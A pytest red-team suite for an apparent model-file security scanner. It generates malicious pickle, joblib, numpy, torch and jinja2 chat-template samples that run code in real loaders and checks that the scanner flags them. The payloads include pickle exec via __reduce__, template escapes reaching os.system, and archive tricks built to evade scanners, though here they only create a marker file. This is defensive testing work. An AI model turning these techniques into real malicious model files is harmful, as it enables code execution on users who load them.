"""Red team, round 2: samples that run a payload in their real loader (proven live in a
subprocess that only creates a marker file) and that ``keishiki scan`` (a fresh process:
torch's cross-check depends on it) must call unsafe (exit 1) without ever running them.
Each generator builds the sample in a folder and returns ``(path, loader[, scan target])``;
``loader`` names the real loader (see ``LOADERS``).  Findings: /work/notes/redteam2.md.

Run one sample by hand: ``python tests/security/test_bypass_round2.py NAME DIR``.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest

from tests.scan.samples import long_name_call

REPO = Path(__file__).resolve().parents[2]
PY = sys.executable
MARKER = "MARKER_round2"


# ---- payloads -----------------------------------------------------------------------------


def _exec_src(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def payload_pickle(marker: Path, protocol: int = 2) -> bytes:
    """A pickle stream calling builtins.exec to create ``marker``."""

    class P:
        def __reduce__(self):
            return (exec, (_exec_src(marker),))

    return pickle.dumps(P(), protocol=protocol)


# ---- loaders (each in a fresh subprocess) -------------------------------------------------

LOADERS = {
    "torch.load": "import torch,sys; torch.load(sys.argv[1], weights_only=False)",
    "pickle.load": "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))",
    "pickle.load-until-eof": (
        "import pickle,sys\nf=open(sys.argv[1],'rb')\n"
        "while True:\n try: pickle.load(f)\n except EOFError: break"
    ),
    "joblib.load": "import joblib,sys; joblib.load(sys.argv[1])",
    "np.load": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)",
    "np.load-npz": (
        "import numpy,sys; z=numpy.load(sys.argv[1], allow_pickle=True)\nfor k in z.files: z[k]"
    ),
    "np.load-npz[x]": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)['x']",
    "jinja2.render": (
        "import jinja2,sys; jinja2.Template(open(sys.argv[1]).read())"
        ".render(messages=[{'role': 'user', 'content': 'hi'}])"
    ),
    "torch.export.load+call": (
        "import torch,sys; torch.export.load(sys.argv[1]).module()(torch.zeros(2))"
    ),
    "torch.jit.load": (
        "import torch,sys; m=torch.jit.load(sys.argv[1])\n"
        "try: m(torch.zeros(2))\nexcept Exception as e: print(e)"
    ),
}


def run_loader(loader: str, path: Path, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [PY, "-c", LOADERS[loader], str(path)], cwd=cwd, capture_output=True, text=True, timeout=300
    )


def run_scan(path: Path, cwd: Path) -> subprocess.CompletedProcess:
    exe = Path(PY).with_name("keishiki")
    cmd = [str(exe)] if exe.exists() else [PY, "-m", "keishiki"]
    return subprocess.run(
        cmd + ["scan", str(path)], cwd=cwd, capture_output=True, text=True, timeout=300
    )


# ---- generators ---------------------------------------------------------------------------


def _tar_add(tf: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tf.addfile(info, io.BytesIO(data))


def gen_torch_tar_storages_after_raw(d: Path, marker: Path):
    """torch's legacy *tar* layout: member ``storages`` is pickle(count), then per storage
    pickle(args) + raw data (8-byte numel + bytes), then pickle(storage_views).  The raw data
    starts with a byte that is no opcode, so the scan stops there ("not read by a loader"),
    but torch.load reads the storage_views pickle after it with a full pickle.load."""
    storages = (
        pickle.dumps(1, protocol=2)
        + b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpuctorch\nFloatStorage\nt."
        + struct.pack("<q", 1)
        + b"\0\0\0\0"
        + payload_pickle(marker)
    )
    path = d / "model.pt"
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tf:
        _tar_add(tf, "zz", b"")  # the tar opens with a name byte that is no pickle opcode
        _tar_add(tf, "storages", storages)
        _tar_add(tf, "tensors", pickle.dumps(0, protocol=2))
        _tar_add(tf, "pickle", pickle.dumps({}, protocol=2))
    return path, "torch.load"


def gen_pickle_65_streams(d: Path, marker: Path):
    """64 benign streams, then the payload: the scan reads MAX_STREAMS (64) streams and
    stops silently; a loader reading records until EOF runs the 65th."""
    path = d / "records.pkl"
    path.write_bytes(pickle.dumps(0, protocol=2) * 64 + payload_pickle(marker))
    return path, "pickle.load-until-eof"


def gen_joblib_object_dtype_word(d: Path, marker: Path):
    """joblib.load reads a nested pickle after a NumpyArrayWrapper whose dtype
    ``hasobject``; the scan decides that from the dtype string starting with "O"
    (``joblib_arrays._dtype_of``), so ``numpy.dtype("object")`` is stepped over as
    ``count * 8`` raw bytes -- which are the nested payload pickle.  The plain C reading
    stops at the first array's raw data (0x01 is no opcode), so only the joblib reading is
    left, and it never sees the payload."""
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump(
        [np.frombuffer(b"\xff" * 8, dtype="<f8"), np.array([None] * 4, dtype=object)],
        buf,
        protocol=2,
    )
    raw = buf.getvalue()
    first_wrapper_end = raw.index(b"\xffh\x01)\x81") + 1  # after the float array's data
    head, tail = raw[:first_wrapper_end], raw[first_wrapper_end:]
    nested = payload_pickle(marker, protocol=2)
    if len(nested) % 2:
        nested += b"(N1"  # MARK, None, POP_MARK: a 3-byte no-op for the outer stream
    while len(nested) % 8:
        nested += b"N0"  # None, POP
    count = len(nested) // 8
    assert count < 256
    wrapper = tail[: tail.index(b"ub\x80\x05") + 2]
    wrapper = (
        wrapper.replace(b"X\x02\x00\x00\x00O8", b"X\x06\x00\x00\x00object")
        .replace(b"h\x06K\x04\x85", b"h\x06K" + bytes([count]) + b"\x85")
        .replace(b"h\x12K\x10u", b"h\x12Nu")
    )
    path = d / "model.joblib"
    path.write_bytes(head + wrapper + nested + b"e.")
    return path, "joblib.load"


def _tiny_safetensors(path: Path) -> None:
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    path.write_bytes(struct.pack("<Q", len(header)) + header + b"\0" * 8)


# a template with no private name written anywhere: '__globals__' is built from single
# underscores at render time and reached through map(attribute=...), which the scan judges
# only when the attribute is a constant
CHAT_TEMPLATE_ESCAPE = (
    "{%- set u = '_' -%}"
    "{%- set g = u ~ u ~ 'globals' ~ u ~ u -%}"
    "{%- for m in [lipsum]|map(attribute=g)|list -%}"
    "{{- m.os.system('touch ' ~ marker) -}}"
    "{%- endfor -%}"
    "{%- for message in messages %}{{ message.content }}{% endfor -%}"
)


def gen_chat_template_map_attribute(d: Path, marker: Path):
    """A chat template (``chat_template.jinja`` in an HF folder) that escapes an unsandboxed
    jinja2 render (llama-cpp-python before CVE-2024-34359's fix, any tool that renders with
    ``jinja2.Template``): ``map(attribute=<computed name>)`` is not judged."""
    folder = d / "model"
    folder.mkdir()
    text = CHAT_TEMPLATE_ESCAPE.replace("marker", repr(str(marker)))
    (folder / "chat_template.jinja").write_text(text)
    (folder / "tokenizer_config.json").write_text('{"chat_template": %s}' % json.dumps(text))
    (folder / "config.json").write_text('{"model_type": "llama"}')
    _tiny_safetensors(folder / "model.safetensors")
    return folder / "chat_template.jinja", "jinja2.render", folder


def _pad8(ops: bytes) -> bytes:
    """``ops`` padded with no-op opcodes to a multiple of 8 bytes."""
    if len(ops) % 2:
        ops += b"(N1"  # MARK, None, POP_MARK
    while len(ops) % 8:
        ops += b"N0"  # None, POP
    return ops


def _joblib_two_arrays():
    """A joblib dump (protocol 2) of [float64 array of 0xff bytes, object array]: returns
    (head through the first array's data, the object wrapper through its BUILD)."""
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump(
        [np.frombuffer(b"\xff" * 8, dtype="<f8"), np.array([None] * 4, dtype=object)],
        buf,
        protocol=2,
    )
    raw = buf.getvalue()
    cut = raw.index(b"\xffh\x01)\x81") + 1
    head, tail = raw[:cut], raw[cut:]
    return head, tail[: tail.index(b"ub\x80\x05") + 2]


def gen_joblib_wrapper_inside_object_pickle(d: Path, marker: Path):
    """joblib.load reads an object array's nested pickle with a *plain*
    ``pickle._Unpickler`` (joblib 1.6 ``NumpyArrayWrapper.read_array``): a NumpyArrayWrapper
    BUILD inside it is just an object, and the bytes after it are opcodes.  The scan reads
    the nested pickle with joblib's array stepping on (``skip_array`` -> ``_PyReader(...,
    joblib=True)``), so it steps over the payload opcodes as the wrapper's raw data."""
    import joblib
    import numpy as np

    head, wrapper = _joblib_two_arrays()
    region = _pad8(payload_pickle(marker, protocol=2)[2:-1])  # opcodes without PROTO/STOP
    buf = io.BytesIO()
    joblib.dump(np.zeros(len(region) // 8), buf, protocol=2)
    inner = buf.getvalue()
    inner = inner[: inner.index(b"K\x10ub") + 4].replace(b"K\x10ub", b"Nub")
    path = d / "model.joblib"
    path.write_bytes(head + wrapper + inner + region + b"." + b"e.")
    return path, "joblib.load"


def gen_joblib_void_itemsize_from_state(d: Path, marker: Path):
    """A NumpyArrayWrapper whose dtype is ``numpy.dtype('V8')`` with a BUILD state that sets
    its element size to 1024 (``dtype.__setstate__`` honours it for void types): joblib.load
    reads 1024 raw bytes, the scan (``_dtype_of``: ``np.dtype(spec).itemsize``) 8; in the
    bytes between, the scan meets a STOP and a non-opcode byte and ends there, while joblib
    goes on to the payload opcodes after the 1024 bytes."""
    import joblib
    import numpy as np

    head, _ = _joblib_two_arrays()
    buf = io.BytesIO()
    joblib.dump(np.zeros(1, dtype="V8"), buf, protocol=2)
    single = buf.getvalue()
    wrapper = single[2 : single.index(b"K\x10ub") + 4]
    wrapper = wrapper.replace(b"NNNK\x08K\x01K\x00t", b"NNNM\x00\x04K\x01K\x00t").replace(
        b"K\x10ub", b"Nub"
    )
    region = (b"\0" * 8 + b".\x01").ljust(1024, b"\0")
    ops = payload_pickle(marker, protocol=2)[2:-1]
    path = d / "model.joblib"
    path.write_bytes(head + wrapper + region + ops + b"e.")
    return path, "joblib.load"


def gen_joblib_object_subarray_state(d: Path, marker: Path):
    """A NumpyArrayWrapper whose dtype is ``numpy.dtype('V16')`` whose BUILD state gives it
    an object *sub-array* (``(dtype('O'), (2,))``, state[3]): ``hasobject`` is True and
    joblib.load reads a nested pickle; the scan looks at the spec and the fields (state[4])
    only, and steps over the nested payload as raw bytes."""
    import joblib
    import numpy as np

    head, _ = _joblib_two_arrays()
    nested = _pad8(payload_pickle(marker, protocol=2))
    if len(nested) % 16:
        nested += b"N0N0N0N0"
    buf = io.BytesIO()
    joblib.dump(np.zeros(1, dtype="V16"), buf, protocol=2)
    single = buf.getvalue()
    wrapper = single[2 : single.index(b"K\x10ub") + 4]
    obj = (
        b"cnumpy\ndtype\nX\x02\x00\x00\x00O8\x89\x88\x87R(K\x03X\x01\x00\x00\x00|NNN"
        b"J\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb"
    )
    wrapper = (
        wrapper.replace(b"NNNK\x10K\x01K\x00t", obj + b"K\x02\x85\x86NNK\x10K\x08K?t")
        .replace(b"shapeq\x05K\x01\x85", b"shapeq\x05K" + bytes([len(nested) // 16]) + b"\x85")
        .replace(b"K\x10ub", b"Nub")
    )
    path = d / "model.joblib"
    path.write_bytes(head + wrapper + nested + b"e.")
    return path, "joblib.load"


def gen_joblib_wrapper_via_reconstructor(d: Path, marker: Path):
    """A NumpyArrayWrapper made by ``copyreg._reconstructor(NumpyArrayWrapper, object,
    None)`` instead of NEWOBJ: joblib's ``isinstance(stack[-1], NumpyArrayWrapper)`` after
    BUILD holds and it reads 8 raw bytes; the scan's stand-in is labelled
    ``copyreg._reconstructor`` (``load_build`` looks at ``top.qualname``), so it reads those
    bytes as opcodes: a STOP, then a non-opcode byte that ends the scan."""
    import joblib
    import numpy as np

    head, _ = _joblib_two_arrays()
    buf = io.BytesIO()
    joblib.dump(np.zeros(1), buf, protocol=2)
    single = buf.getvalue()
    wrapper = single[2 : single.index(b"K\x10ub") + 4]
    wrapper = wrapper.replace(
        b"cjoblib.numpy_pickle\nNumpyArrayWrapper\nq\x00)\x81",
        b"ccopyreg\n_reconstructor\n(cjoblib.numpy_pickle\n"
        b"NumpyArrayWrapper\nq\x00cbuiltins\nobject\nNtR",
    ).replace(b"K\x10ub", b"Nub")
    ops = payload_pickle(marker, protocol=2)[2:-1]
    path = d / "model.joblib"
    path.write_bytes(head + wrapper + b".\x01\0\0\0\0\0\0" + ops + b"e.")
    return path, "joblib.load"


# ---- attacks keishiki got right (kept as regression tests) --------------------------------


def _torch_zip_members(extra: dict[str, bytes] | None = None) -> list[tuple[str, bytes]]:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def gen_torch_zip_duplicate_data_pkl(d: Path, marker: Path):
    """Two entries named ``archive/data.pkl`` (identical case): the second holds the payload."""
    import warnings

    path = d / "model.pt"
    members = _torch_zip_members()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "w") as zf:
            for name, data in members:
                zf.writestr(name, data)
            pkl = next(n for n, _ in members if n.endswith("/data.pkl"))
            zf.writestr(pkl, payload_pickle(marker))
    return path, "torch.load"


def gen_torch_zip_eocd_in_comment(d: Path, marker: Path):
    """A torch zip whose end-record comment holds a second end record that points at a
    second central directory (appended before it) naming a payload data.pkl."""
    inner = io.BytesIO()
    members = _torch_zip_members()
    with zipfile.ZipFile(inner, "w") as zf:
        for name, data in members:
            zf.writestr(name, data)
    good = inner.getvalue()
    # a second archive whose data.pkl is the payload, laid after the first one's bytes
    evil = io.BytesIO()
    with zipfile.ZipFile(evil, "w") as zf:
        for name, data in members:
            zf.writestr(name, payload_pickle(marker) if name.endswith("/data.pkl") else data)
    ev = evil.getvalue()
    eocd = ev.rindex(b"PK\x05\x06")
    n_entries, cd_size, cd_ofs = struct.unpack("<HII", ev[eocd + 10 : eocd + 20])
    body = ev[:eocd]
    # rewrite the evil central directory's offsets for its new place
    cd = bytearray(body[cd_ofs : cd_ofs + cd_size])
    p = 0
    while p < len(cd):
        n, x, c = struct.unpack("<HHH", cd[p + 28 : p + 34])
        (ofs,) = struct.unpack("<I", cd[p + 42 : p + 46])
        cd[p + 42 : p + 46] = struct.pack("<I", ofs + len(good))
        p += 46 + n + x + c
    new_eocd = (
        b"PK\x05\x06"
        + struct.pack("<HHHHII", 0, 0, n_entries, n_entries, cd_size, cd_ofs + len(good))
        + b"\0\0"
    )
    comment = body[:cd_ofs] + bytes(cd) + new_eocd
    assert len(comment) < 65535
    data = good[:-2] + struct.pack("<H", len(comment)) + comment
    path = d / "model.pt"
    path.write_bytes(data)
    return path, "torch.load"


CHAT_TEMPLATE_GETITEM_VAR = (
    "{%- set u = '_' -%}"
    "{%- set g = u ~ u ~ 'globals' ~ u ~ u -%}"
    "{{- lipsum[g]['os'].system('touch ' ~ marker) -}}"
    "{%- for message in messages %}{{ message.content }}{% endfor -%}"
)


def gen_chat_template_getitem_variable(d: Path, marker: Path):
    """``x[name]`` where ``name`` is a variable set from concatenated single underscores:
    ``opt_in._item`` flags a computed key only when the concatenation is inside the
    brackets; jinja2's getitem falls back to getattr for a string key."""
    folder = d / "model"
    folder.mkdir()
    text = CHAT_TEMPLATE_GETITEM_VAR.replace("marker", repr(str(marker)))
    (folder / "chat_template.jinja").write_text(text)
    (folder / "config.json").write_text('{"model_type": "llama"}')
    _tiny_safetensors(folder / "model.safetensors")
    return folder / "chat_template.jinja", "jinja2.render", folder


# ---- the tests ----------------------------------------------------------------------------


def _miss(reason: str):
    return pytest.mark.xfail(strict=True, reason=reason)


# ---- round 3 (seventh session): a cut-short name, and the pre-0.4 tar's raw sizes ----------


def gen_long_name_then_memo_cap(d: Path, marker: Path):
    """After the call, a LONG_BINPUT index beyond the scan's memo limit: the scan stops
    there (its limit, not the loader's, which reads on to STOP) and used to undo the whole
    reading as "not a pickle" because the shortened name is not identifier-shaped; the
    format sniffer then took the file for a pickle and read it cleanly: safe."""
    path = d / "checkpoint"
    path.write_bytes(long_name_call(f"touch {marker}", b"r" + struct.pack("<I", 5_000_000) + b"."))
    return path, "pickle.load"


def gen_long_name_then_junk_in_folder(d: Path, marker: Path):
    """The same call followed by a byte that is no opcode: pickle.load runs the call, then
    fails; the scan of the folder undid the reading (an error and no identifier-shaped
    name) and skipped the file."""
    (d / "config.json").write_text("{}")
    path = d / "model.pth.tar"
    path.write_bytes(long_name_call(f"touch {marker}", b"\xff"))
    return path, "pickle.load", d


def gen_torch_tar_storage_args_list(d: Path, marker: Path):
    """A pre-0.4 tar whose storage arguments are a *list* ``[key, location, FloatStorage]``:
    torch unpacks any sequence and steps over 4 bytes per element; the scan read the type
    only from a tuple and stepped 1 byte per element, onto a harmless decoy, while torch's
    ``storage_views`` pickle (the payload) lay further on."""
    n = 16
    raw = bytearray(4 * n)
    raw[n : n + 4] = b"].N."  # where the scan looked: an empty list, then None
    storages = (
        pickle.dumps(1, protocol=2)
        + b"\x80\x02](X\x01\x00\x00\x00kX\x03\x00\x00\x00cpuctorch\nFloatStorage\ne."
        + struct.pack("<q", n)
        + bytes(raw)
        + payload_pickle(marker)
    )
    path = d / "model.pth"
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tf:
        _tar_add(tf, "storages", storages)
        _tar_add(tf, "tensors", pickle.dumps(0, protocol=2))
        _tar_add(tf, "pickle", pickle.dumps({}, protocol=2))
    return path, "torch.load"


def gen_torch_tar_tensor_ndim_65(d: Path, marker: Path):
    """A pre-0.4 tar whose first tensor has 65 dimensions: torch reads 65 sizes, 65
    strides and an offset, then the next tensor's arguments (the payload); the scan
    stopped quietly at more than 64 dimensions."""
    ndim = 65
    tensors = (
        pickle.dumps(2, protocol=2)
        + b"\x80\x02X\x02\x00\x00\x00t0X\x01\x00\x00\x00kctorch\nFloatTensor\n\x87."
        + struct.pack("<i", ndim)
        + b"\0" * 4
        + struct.pack(f"<{ndim}q", *[0] * ndim)
        + struct.pack(f"<{ndim}q", *[1] * ndim)
        + struct.pack("<q", 0)
        + payload_pickle(marker)
    )
    storages = (  # storage "k": no elements
        pickle.dumps(1, protocol=2)
        + b"\x80\x02X\x01\x00\x00\x00kX\x03\x00\x00\x00cpuctorch\nFloatStorage\n\x87."
        + struct.pack("<q", 0)
        + pickle.dumps([], protocol=2)
    )
    path = d / "model.pth"
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tf:
        _tar_add(tf, "storages", storages)
        _tar_add(tf, "tensors", tensors)
        _tar_add(tf, "pickle", pickle.dumps({}, protocol=2))
    return path, "torch.load"


def gen_torchscript_cr_ends_the_comment_for_python_only(d: Path, marker: Path):
    """TorchScript's lexer takes a lone ``\\r`` for a blank, Python's for a line end: after
    ``# comment\\r`` Python opens a string that swallows the next line, torch keeps reading
    the comment and runs that line, ``torch.save(...)`` in ``__setstate__`` (at load)."""
    import torch

    class Net(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.w = torch.zeros(2)

        def forward(self, x):
            return x + self.w

        @torch.jit.export
        def __getstate__(self) -> tuple[torch.Tensor, bool]:
            return (self.w, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
            self.w = state[0]
            self.training = state[1]

    base = d / "base.pt"
    torch.jit.save(torch.jit.script(Net()), str(base))
    with zipfile.ZipFile(base) as zi:
        member = next(
            n for n in zi.namelist() if n.endswith(".py") and b"__setstate__" in zi.read(n)
        )
        code = zi.read(member).decode()
        hidden = (
            '  # restore weights\r    doc = """\n'
            f"    torch.save((state)[0], {str(marker)!r})\n"
            '    # """\n'
        )
        start = code.index("def __setstate__")
        at = code.index("\n", code.index("self.w = ", start))
        code = code[:at] + hidden + code[at + 1 :]
        path = d / "model.pt"
        with zipfile.ZipFile(path, "w") as zo:
            for info in zi.infolist():
                if not info.filename.endswith(".debug_pkl"):
                    data = code.encode() if info.filename == member else zi.read(info.filename)
                    zo.writestr(zipfile.ZipInfo(info.filename), data)
    base.unlink()
    return path, "torch.jit.load"


def gen_torch_export_aliased_from_file(d: Path, marker: Path):
    """A ``.pt2`` graph node whose target reaches ``aten::from_file`` through another
    module's alias of the aten namespace: torch's deserializer walks attributes from the
    torch module; ``from_file(shared=True)`` creates the file it names when the graph runs."""
    import copy

    import torch

    class Net(torch.nn.Module):
        def forward(self, x):
            return torch.add(x, 1)

    base = d / "base.pt2"
    torch.export.save(torch.export.export(Net(), (torch.zeros(2),)), str(base))
    path = d / "model.pt2"
    with zipfile.ZipFile(base) as zi, zipfile.ZipFile(path, "w") as zo:
        for info in zi.infolist():
            data = zi.read(info.filename)
            if info.filename.endswith("models/model.json"):
                program = json.loads(data)
                graph = program["graph_module"]["graph"]
                graph["nodes"].insert(
                    0,
                    {
                        "target": "torch._decomp.decompositions.aten.from_file.default",
                        "inputs": [
                            {"name": "filename", "arg": {"as_string": str(marker)}, "kind": 1},
                            {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                            {"name": "size", "arg": {"as_int": 2}, "kind": 1},
                        ],
                        "outputs": [{"as_tensor": {"name": "ff"}}],
                        "metadata": {},
                        "is_hop_single_tensor_return": None,
                        "name": "ff",
                    },
                )
                graph["tensor_values"]["ff"] = copy.deepcopy(graph["tensor_values"]["x"])
                graph["nodes"][1]["inputs"][1]["arg"] = {"as_tensor": {"name": "ff"}}
                data = json.dumps(program).encode()
            zo.writestr(info, data)
    base.unlink()
    return path, "torch.export.load+call"


def _zip_with_twin(
    entries: list[tuple[str, bytes]], cover: int, twin: str, local_twin: bool = False
) -> bytes:
    """A stored zip of ``entries`` plus one more central-directory entry named ``twin`` that
    points at entry ``cover``'s local header (same bytes, sizes and method): no writer makes
    one, and a reader looking ``twin`` up gets ``cover``'s bytes (``local_twin``: that local
    header carries the twin's name, which zipfile checks when it opens the twin)."""
    import zlib

    def fields(data: bytes, name: bytes) -> tuple:  # crc, sizes, name length, extra length
        return (zlib.crc32(data), len(data), len(data), len(name), 0)

    out, directory, offsets = bytearray(), [], []
    for i, (name, data) in enumerate(entries):
        local = (twin if local_twin and i == cover else name).encode()
        offsets.append(len(out))
        out += struct.pack("<4sHHHHH", b"PK\x03\x04", 20, 0, 0, 0, 0)
        out += struct.pack("<IIIHH", *fields(data, local)) + local + data
    for name, data, offset in [
        *zip(*zip(*entries), offsets),
        (twin, entries[cover][1], offsets[cover]),
    ]:
        raw = name.encode()
        directory.append(
            struct.pack("<4sHHHHHH", b"PK\x01\x02", 20, 20, 0, 0, 0, 0)
            + struct.pack("<IIIHH", *fields(data, raw))
            + struct.pack("<HHHII", 0, 0, 0, 0, offset)
            + raw
        )
    start, cd, n = len(out), b"".join(directory), len(directory)
    out += cd + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(cd), start, 0)
    return bytes(out)


def gen_npz_twin_entry_behind_a_folder(d: Path, marker: Path):
    """An .npz whose ``x.npy`` (an object array: a pickle) is a second directory entry for the
    local header of a folder entry ``d/``: the scan's union of both directories folded the
    two into one member named ``d/`` (a folder: skipped); numpy opens ``x.npy`` by name."""
    import numpy as np

    class P:
        def __reduce__(self):
            return (exec, (_exec_src(marker),))

    evil, clean = io.BytesIO(), io.BytesIO()
    arr = np.empty(1, dtype=object)
    arr[0] = P()
    np.lib.format.write_array(evil, arr, allow_pickle=True)
    np.lib.format.write_array(clean, np.zeros(3))
    path = d / "weights.npz"
    path.write_bytes(
        _zip_with_twin(
            [("w.npy", clean.getvalue()), ("d/", evil.getvalue())], 1, "x.npy", local_twin=True
        )
    )
    return path, "np.load-npz[x]"


def gen_torch_zip_twin_data_pkl_behind_a_storage(d: Path, marker: Path):
    """A torch zip with a benign ``archive/data.pkl`` and a second one: a directory entry
    for the local header of a storage record (raw bytes the scan skips).  torch's miniz
    finds names by binary search over the sorted directory, and filler entries steer it
    onto the twin; the scan's union of both directories folded the twin into the storage."""
    import torch

    clean = d / "clean.pt"
    torch.save({"w": torch.zeros(3)}, clean)
    with zipfile.ZipFile(clean) as zf:
        base = [("archive/" + i.filename.split("/", 1)[1], zf.read(i)) for i in zf.infolist()]
    clean.unlink()
    evil = payload_pickle(marker)
    for before in range(8):
        for after in range(8):
            entries = [
                *base,
                ("archive/data/1", evil),
                *[(f"archive/aa{i}", b"x") for i in range(before)],
                *[(f"archive/zz{i}", b"x") for i in range(after)],
            ]
            raw = _zip_with_twin(entries, len(base), "archive/data.pkl")
            reader = torch._C.PyTorchFileReader(io.BytesIO(raw))
            if bytes(reader.get_record("data.pkl")) == evil:
                path = d / "model.pt"
                path.write_bytes(raw)
                return path, "torch.load"
    raise AssertionError("no filler count steers torch's reader onto the twin")


# per class: name -> marks (an xfail mark names a live miss the lead has not fixed yet;
# samples without one are attacks keishiki already catches, kept as regression tests)
PICKLE_SAMPLES = {
    # round 3: caught since the seventh session (a reading stopped by the scan's own limit,
    # or that named a dangerous global, is never undone; the tar's raw sizes as torch reads)
    "long_name_then_memo_cap": [],
    "long_name_then_junk_in_folder": [],
    "torch_tar_storage_args_list": [],
    "torch_tar_tensor_ndim_65": [],
    "pickle_65_streams": [],  # caught: streams are read until the time budget (then: error)
    "torch_tar_storages_after_raw": [],  # caught: the member read in legacy_load's layout
}
JOBLIB_SAMPLES = {  # all caught: the dtype is built as numpy builds it, the wrapper known by
    # what joblib's isinstance sees, an object array's pickle read with a plain unpickler
    "joblib_object_dtype_word": [],
    "joblib_wrapper_inside_object_pickle": [],
    "joblib_void_itemsize_from_state": [],
    "joblib_object_subarray_state": [],
    "joblib_wrapper_via_reconstructor": [],
}
ZIP_SAMPLES = {
    # round 3: a second directory entry for another entry's local header
    "npz_twin_entry_behind_a_folder": [],
    "torch_zip_twin_data_pkl_behind_a_storage": [],
    # round 3: a lexer differential in TorchScript code, an aliased op in a torch.export graph
    "torchscript_cr_ends_the_comment_for_python_only": [],
    "torch_export_aliased_from_file": [],
    "torch_zip_duplicate_data_pkl": [],  # caught: dangerous
    "torch_zip_eocd_in_comment": [],  # caught: dangerous
}
TEMPLATE_SAMPLES = {  # caught: computed attribute names in every attribute filter, and keys
    # held in a variable set to a string built at render time
    "chat_template_map_attribute": [],
    "chat_template_getitem_variable": [],
}


def build(name: str, folder: Path):
    """``(file for the loader, loader, what to scan)`` of sample ``name``."""
    out = globals()["gen_" + name](folder, folder / MARKER)
    return out[0], out[1], (out[2] if len(out) > 2 else out[0])


def _params(samples: dict) -> list:
    return [pytest.param(n, marks=m, id=n) for n, m in samples.items()]


def _check(name: str, tmp_path: Path) -> None:
    """The sample runs its payload in its real loader; ``keishiki scan`` (a fresh process)
    exits 1 on it without running it."""
    live_dir, scan_dir = tmp_path / "live", tmp_path / "scan"
    live_dir.mkdir()
    scan_dir.mkdir()
    path, loader, _ = build(name, live_dir)
    proc = run_loader(loader, path, live_dir)
    assert (live_dir / MARKER).exists(), (
        f"{name}: the payload did not run in {loader}: {proc.stderr[-2000:]}"
    )
    path, loader, target = build(name, scan_dir)
    res = run_scan(target, scan_dir)
    assert not (scan_dir / MARKER).exists(), f"{name}: keishiki scan ran the payload"
    assert res.returncode == 1, (
        f"{name}: keishiki scan exit {res.returncode}\n{res.stdout[-3000:]}{res.stderr[-1000:]}"
    )


@pytest.mark.parametrize("name", _params(PICKLE_SAMPLES))
def test_pickle_layouts(name: str, tmp_path: Path) -> None:
    if name.startswith("torch"):
        pytest.importorskip("torch")
    _check(name, tmp_path)


@pytest.mark.parametrize("name", _params(JOBLIB_SAMPLES))
def test_joblib_array_stepping(name: str, tmp_path: Path) -> None:
    pytest.importorskip("joblib")
    _check(name, tmp_path)


@pytest.mark.parametrize("name", _params(ZIP_SAMPLES))
def test_torch_zip(name: str, tmp_path: Path) -> None:
    pytest.importorskip("torch")
    _check(name, tmp_path)


@pytest.mark.parametrize("name", _params(TEMPLATE_SAMPLES))
def test_chat_templates_unsandboxed(name: str, tmp_path: Path) -> None:
    _check(name, tmp_path)


if __name__ == "__main__":  # python tests/security/test_bypass_round2.py NAME DIR
    sample, where = sys.argv[1], Path(sys.argv[2])
    where.mkdir(parents=True, exist_ok=True)
    print(build(sample, where))
